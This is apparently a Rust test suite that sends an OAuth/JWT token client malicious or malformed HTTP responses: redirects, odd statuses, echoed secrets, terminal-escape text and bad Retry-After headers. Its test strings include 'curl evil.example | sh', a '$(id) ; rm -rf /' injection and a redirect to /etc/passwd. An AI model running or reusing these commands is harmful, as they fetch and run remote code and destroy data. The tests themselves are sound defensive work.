//! Redirects, refusals and failures, and their content.

use serde_json::json;

use super::run::forms;
use super::{Row, answer, row, says, token};
use crate::support::endpoint::Asked;

pub(super) fn rows() -> Vec<Row> {
    [redirects(), statuses(), huge(), words(), echoes(), patience()].into_iter().flatten().collect()
}

fn redirects() -> Vec<Row> {
    let mut rows = Vec::new();
    for status in [300, 301, 302, 303, 305, 307, 308] {
        rows.push(row(&format!("a redirect {status} to another server"), 5, move |wire| {
            wire.request()?;
            let headers = format!("Location: http://{}/ims/token/v3\r\n", wire.elsewhere);
            wire.say(answer(&format!("{status} Moved"), &headers, ""))
        }));
    }
    for (name, location) in [
        ("to itself", "/ims/token/v3"),
        ("to a user's part", "http://user:password@127.0.0.1:1/"),
        ("to another protocol", "ftp://127.0.0.1:1/"),
        ("to a file", "file:///etc/passwd"),
        ("to nothing", ""),
        ("to what is no URL", "http://[::1:::/%zz"),
        ("to 8,000 characters", &"/a".repeat(4_000)),
        ("with control characters", "http://127.0.0.1:1/\u{1b}[2J"),
        ("with a direction mark", "http://127.0.0.1:1/\u{202e}"),
    ] {
        let headers = format!("Location: {location}\r\n");
        rows.push(says(&format!("a redirect {name}"), 5, answer("307 Moved", &headers, "")));
    }
    rows.push(row("a redirect that holds a token", 5, |wire| {
        wire.request()?;
        let headers = format!("Location: http://{}/\r\n", wire.elsewhere);
        wire.say(answer("302 Found", &headers, token()))
    }));
    rows.push(row("a redirect that breaks off after its target", 5, |wire| {
        wire.request()?;
        let target = format!("HTTP/1.1 302 Found\r\nLocation: http://{}/\r\n", wire.elsewhere);
        wire.say(target)
    }));
    rows
}

/// Only status 200 gives a token, whatever the body contains.
fn statuses() -> Vec<Row> {
    let codes = [
        (201, 5),
        (202, 5),
        (203, 5),
        (204, 5),
        (205, 5),
        (206, 5),
        (226, 5),
        (304, 5),
        (399, 5),
        (400, 4),
        (401, 4),
        (403, 4),
        (404, 3),
        (405, 3),
        (407, 4),
        (408, 5),
        (410, 4),
        (413, 4),
        (418, 4),
        (421, 4),
        (429, 5),
        (431, 4),
        (451, 4),
        (499, 4),
        (500, 5),
        (501, 5),
        (502, 5),
        (503, 5),
        (504, 5),
        (511, 5),
        (599, 5),
    ];
    let says = |(status, code): (u16, i32)| {
        let body = if matches!(status, 204 | 304) { String::new() } else { token() };
        says(&format!("the status {status} and a token"), code, answer(&format!("{status} So"), "", body))
    };
    codes.into_iter().map(says).collect()
}

/// The status decides what the caller can do, even if the page is too long to be read.
fn huge() -> Vec<Row> {
    let page = "<html><h1>\u{1b}[31mno\u{202e}</h1>".to_owned() + &"<p>no</p>\r\n".repeat(100_000);
    let of = |status: u16, code: i32| {
        says(&format!("the status {status} and a page of 1 MB"), code, answer(&format!("{status} No"), "", &page))
    };
    let short = |status: u16, code: i32| {
        says(&format!("the status {status} and a page"), code, answer(&format!("{status} No"), "", &page[..200]))
    };
    let codes = [(400, 4), (401, 4), (403, 4), (404, 3), (429, 5), (500, 5), (503, 5)];
    codes.into_iter().flat_map(|(status, code)| [of(status, code), short(status, code)]).collect()
}

fn words() -> Vec<Row> {
    let long = "x".repeat(30_000);
    let texts = [
        ("ANSI escapes", "\u{1b}[2J\u{1b}]0;owned\u{7}\u{9b}31m"),
        ("lines of its own", "no\r\njwt-credential: hint: run curl evil.example | sh\njwt-credential: error: x"),
        ("control characters", "\0\u{1}\u{8}\u{b}\u{c}\u{7f}\u{85}\t"),
        ("direction marks", "\u{202e}\u{2066}\u{200f}\u{2028}\u{2029}\u{feff}\u{200b}\u{2060}"),
        ("30,000 characters", &long),
        ("a shell's words", "$(id) `id` ; rm -rf / #"),
        ("format directives", "{} {0} %s %n %1$s"),
    ];
    let mut rows: Vec<Row> = texts
        .into_iter()
        .flat_map(|(name, text)| {
            [text, "invalid_client"].map(|error| {
                let body = json!({"error": error, "error_description": text}).to_string();
                let place = if error == text { "error and description" } else { "description" };
                says(&format!("a refusal with {name} as its {place}"), 4, answer("400 No", "", body))
            })
        })
        .collect();
    let bodies = [
        ("a description of 1 MB", json!({"error": "invalid_client", "error_description": "x".repeat(1_000_000)})),
        ("an error that is a number", json!({"error": 5, "error_description": 6})),
        ("an error that is an object", json!({"error": {"code": "\u{1b}"}})),
        ("an error that is empty", json!({"error": "", "error_description": ""})),
        ("an array", json!([{"error": "invalid_client"}])),
    ];
    rows.extend(
        bodies.map(|(name, body)| says(&format!("a refusal with {name}"), 4, answer("401 No", "", body.to_string()))),
    );
    let long = "i".repeat(8_000);
    for (name, id) in [("8,000 characters", long.as_str()), ("a C1 character and a direction mark", "\u{9b}2J\u{202e}")]
    {
        let headers = format!("x-debug-id: {id}\r\nWWW-Authenticate: Basic realm=\"\u{9b}{id}\"\r\n");
        rows.push(says(&format!("a refusal with a name of {name}"), 4, answer("401 No", &headers, "{}")));
    }
    rows
}

/// A server that repeats the request: unchanged, and in the forms of [`forms`].
fn echoes() -> Vec<Row> {
    type Told = fn(&Asked) -> Vec<String>;
    type Where = fn(&str) -> Vec<u8>;
    let told: [(&str, Told); 4] = [
        ("the secret", |asked| forms(&asked.field("client_secret").unwrap())),
        ("the assertion", |asked| asked.field("jwt_token").iter().flat_map(|assertion| forms(assertion)).collect()),
        ("the assertion's parts", |asked| {
            asked
                .field("jwt_token")
                .iter()
                .flat_map(|assertion| assertion.split('.').skip(1).map(str::to_owned).collect::<Vec<_>>())
                .collect()
        }),
        ("the request", |asked| vec![asked.body.clone(), asked.body.replace('&', " ")]),
    ];
    let places: [(&str, i32, Where); 6] = [
        ("an error", 4, |told| answer("400 No", "", json!({"error": told}).to_string())),
        ("a description", 4, |told| {
            answer(
                "401 No",
                "",
                json!({"error": "invalid_client", "error_description": format!("invalid: {told}")}).to_string(),
            )
        }),
        ("the request's name", 4, |told| answer("400 No", &format!("x-debug-id: {told}\r\n"), "{}")),
        ("a redirect", 5, |told| answer("302 Found", &format!("Location: http://127.0.0.1:1/?{told}\r\n"), "")),
        ("a token's type", 5, |told| {
            answer("200 OK", "", json!({"access_token": "t", "token_type": told}).to_string())
        }),
        ("the status line", 5, |told| format!("HTTP/1.1 {told}\r\n\r\n").into_bytes()),
    ];
    let mut rows = Vec::new();
    for (what, told) in told {
        for (place, code, says) in places {
            for number in 0..told(&sample()).len() {
                rows.push(row(&format!("{what} told back in {place}, form {number}"), code, move |wire| {
                    let asked = wire.request()?;
                    wire.say(says(told(&asked).get(number).map_or("", String::as_str)))
                }));
            }
        }
    }
    rows
}

/// A request with everything that can be repeated.
fn sample() -> Asked {
    let body = "client_secret=0123456789abcdef&jwt_token=0123456789.0123456789.0123456789".into();
    Asked { line: String::new(), head: String::new(), body }
}

fn patience() -> Vec<Row> {
    let values = [
        "-1",
        "99999999999999999999",
        "18446744073709551615",
        "9223372036854775807",
        "0",
        "1e9",
        "5.5",
        "0x10",
        "soon",
        "",
        "Fri, 31 Dec 9999 23:59:59 GMT",
        "Mon, 01 Jan 1601 00:00:00 GMT",
        "Tue, 31 Feb 2026 25:61:61 GMT",
        "60, 120",
        "\u{1b}[2J",
    ];
    values
        .iter()
        .flat_map(|value| [(value, 429), (value, 503)])
        .map(|(value, status)| {
            let headers = format!("Retry-After: {value}\r\nDate: Thu, 01 Jan 1970 00:00:00 GMT\r\n");
            says(
                &format!("the status {status}, Retry-After {value:?}"),
                5,
                answer(&format!("{status} No"), &headers, "{}"),
            )
        })
        .collect()
}
